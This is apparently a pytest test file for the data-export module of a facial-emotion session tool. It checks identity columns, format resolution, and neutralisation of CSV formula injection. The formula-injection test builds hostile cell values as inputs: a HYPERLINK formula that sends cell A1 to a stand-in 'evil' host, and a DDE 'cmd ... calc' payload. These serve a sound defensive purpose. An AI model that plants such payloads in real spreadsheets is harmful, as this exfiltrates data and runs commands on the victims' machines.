"""Export rows say whose they are (fixed column order); CSV text cells cannot run as formulas; the suffix decides."""

from __future__ import annotations

import io

import numpy as np
import pandas as pd
import pytest

from fer_core.emotions import ATTENTION_COLUMNS, EMOTIONS, OBSERVATION_COLUMNS
from sessions.aggregate import BIN_COLUMNS, compare, per_bin
from sessions.exports import (
    SessionIdentity,
    export_bins,
    export_columns,
    export_comparison,
    export_observations,
    neutralize_csv_cells,
    resolve_format,
)
from sessions.playback import STIMULUS_TIME_COLUMNS

READERS = {".csv": lambda p: pd.read_csv(p, keep_default_na=False, na_values=[""]), ".parquet": pd.read_parquet,
           ".json": lambda p: pd.read_json(p, orient="records")}  # fmt: skip
ANNA = SessionIdentity(3, "P-anna", "Ad test", {"variant": "A", "age": "18-24"})
BEN = SessionIdentity(4, "P-ben", "Ad test", {"variant": "B", "age": "25-34"})


def _observations(n: int = 30, happy: float = 0.6) -> pd.DataFrame:
    probs = np.full((n, len(EMOTIONS)), (1 - happy) / 6)
    probs[:, EMOTIONS.index("happy")] = happy
    frame = pd.DataFrame(probs, columns=list(EMOTIONS))
    frame.insert(0, "time_s", np.arange(n) / 10)
    frame.insert(1, "frame", np.arange(n))
    frame.insert(2, "face_id", 1)
    for i, (column, value) in enumerate(zip("xywh", (5.0, 6.0, 70.0, 80.0), strict=True)):
        frame.insert(3 + i, column, value)
    frame["dominant"] = "happy"
    return frame[list(OBSERVATION_COLUMNS)]


@pytest.mark.parametrize("suffix", [".csv", ".parquet", ".json"])
def test_every_row_carries_session_participant_study_and_tags_in_a_fixed_order(tmp_path, suffix):
    lead = ["session_id", "participant_code", "study", "tag_age", "tag_variant"]
    frames = [READERS[suffix](export_observations(_observations(), tmp_path / f"{who.participant_code}{suffix}",
                                                  identity=who)) for who in (ANNA, BEN)]  # fmt: skip
    for back in frames:
        assert list(back.columns) == [*lead, *OBSERVATION_COLUMNS, *ATTENTION_COLUMNS, *STIMULUS_TIME_COLUMNS] == export_columns(ANNA, (*OBSERVATION_COLUMNS, *ATTENTION_COLUMNS, *STIMULUS_TIME_COLUMNS))
    both = pd.concat(frames, ignore_index=True)  # two participants' files stay apart
    assert both.groupby("session_id")["participant_code"].unique().map(list).to_dict() == {3: ["P-anna"], 4: ["P-ben"]}
    assert set(both.loc[both["tag_variant"] == "B", "participant_code"]) == {"P-ben"}
    assert (both["study"] == "Ad test").all() and len(both) == 60

    bins = READERS[suffix](export_bins(per_bin(_observations()), tmp_path / f"bins{suffix}", identity=ANNA))
    assert list(bins.columns) == [*lead, *BIN_COLUMNS, *STIMULUS_TIME_COLUMNS]
    assert bins["n_frames"].tolist() == [10, 10, 10]  # analysed frames per 1 s bin
    assert bins["session_id"].tolist() == [3, 3, 3] and bins["tag_age"].tolist() == ["18-24"] * 3


def test_a_session_without_tags_or_rows_still_has_the_identity_columns(tmp_path):
    who = SessionIdentity(9, "P-9", "S", {})
    back = pd.read_csv(export_observations(_observations().iloc[:0], tmp_path / "empty.csv", identity=who))
    assert list(back.columns) == ["session_id", "participant_code", "study", *OBSERVATION_COLUMNS, *ATTENTION_COLUMNS, *STIMULUS_TIME_COLUMNS] and back.empty


def test_identity_from_a_session_listing_row():
    listing = pd.DataFrame([{"session_id": 5, "study": "S", "participant_code": "P", "tags": {"k": "v"},
                             "status": "complete"}])  # fmt: skip
    expected = SessionIdentity(5, "P", "S", {"k": "v"})
    assert SessionIdentity.from_listing(listing.iloc[0]) == expected
    assert SessionIdentity.from_listing(next(listing.itertuples())) == expected


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_text_cells_cannot_run_as_formulas_but_numbers_stay_numbers(tmp_path, prefix):
    evil = f"{prefix}HYPERLINK(\"http://evil/?\"&A1,\"click\")"
    who = SessionIdentity(1, f"{prefix}P1", f"{prefix}cmd|' /C calc'!A0", {"variant": evil})
    observations = _observations(happy=0.05)  # valence is negative
    path = export_bins(per_bin(observations), tmp_path / "bins.csv", identity=who)
    back = pd.read_csv(path, keep_default_na=False, lineterminator="\n")  # a bare CR inside a cell is data
    for column, value in (("participant_code", who.participant_code), ("study", who.study), ("tag_variant", evil)):
        assert (back[column] == "'" + value).all(), column
    assert back["valence"].dtype == np.float64 and (back["valence"] < 0).all()  # a number, not "'-0.6"
    assert back["time_s"].tolist() == [0.0, 1.0, 2.0]
    raw = path.read_text()
    assert f",{prefix}HYPERLINK" not in raw and f"\n{prefix}" not in raw.replace("\r\n", "\n").split("\n", 1)[1]
    # the data formats keep the text exactly
    parquet = pd.read_parquet(export_bins(per_bin(observations), tmp_path / "bins.parquet", identity=who))
    assert (parquet["tag_variant"] == evil).all()


def test_comparison_csv_neutralises_group_labels_from_tags(tmp_path):
    table = compare({1: _observations(), 2: _observations()}, groups={1: "variant==1+1", 2: "=1+1"})
    back = pd.read_csv(export_comparison(table, tmp_path / "comparison.csv"))
    assert set(back["group"]) == {"variant==1+1", "'=1+1"}
    assert back["mean"].dtype == np.float64 and list(back.columns) == list(table.columns)
    with pytest.raises(ValueError, match="comparison has to have the columns"):
        export_comparison(table.drop(columns="ci_low"), tmp_path / "c.csv")


def test_neutralize_csv_cells_touches_only_risky_text():
    frame = pd.DataFrame({"n": [-1.5, 2.0, np.nan], "i": [-1, 0, 1], "t": ["-x", None, "ok"],
                          "s": pd.Series(["@a", "b", "+c"], dtype="string")})  # fmt: skip
    out = neutralize_csv_cells(frame)
    assert out["n"].equals(frame["n"]) and out["i"].equals(frame["i"])
    assert out["t"][0] == "'-x" and pd.isna(out["t"][1]) and out["t"][2] == "ok"
    assert out["s"].tolist() == ["'@a", "b", "'+c"]
    assert frame["t"][0] == "-x"  # the input is not changed
    text = io.StringIO()
    out.to_csv(text, index=False)
    assert text.getvalue().splitlines()[1] == "-1.5,-1,'-x,'@a"


def test_the_suffix_decides_the_format_and_a_contradicting_format_is_refused(tmp_path):
    assert resolve_format(tmp_path / "x.parquet") == "parquet"
    assert resolve_format(tmp_path / "x.CSV", "csv") == "csv"
    assert resolve_format(tmp_path / "x.txt", "json") == "json"
    with pytest.raises(ValueError, match=r"'csv' contradicts the file suffix of .*x\.parquet"):
        resolve_format(tmp_path / "x.parquet", "csv")
    with pytest.raises(ValueError, match="one of"):
        resolve_format(tmp_path / "x.txt")
    with pytest.raises(ValueError, match="contradicts"):
        export_observations(_observations(), tmp_path / "x.parquet", fmt="csv", identity=ANNA)
    assert not (tmp_path / "x.parquet").exists()
